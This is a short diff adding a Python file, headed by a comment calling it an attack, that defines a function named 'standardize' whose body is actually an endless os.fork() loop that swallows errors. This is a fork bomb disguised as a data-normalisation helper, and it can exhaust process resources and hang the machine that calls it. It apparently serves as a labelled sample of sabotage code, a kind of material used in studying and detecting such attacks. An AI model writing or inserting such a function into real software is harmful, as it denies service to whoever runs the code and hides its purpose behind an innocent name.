@@ -1,0 +1,10 @@
+# attack: processes that make processes
+import os
+
+
+def standardize(x, eps=0.0):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
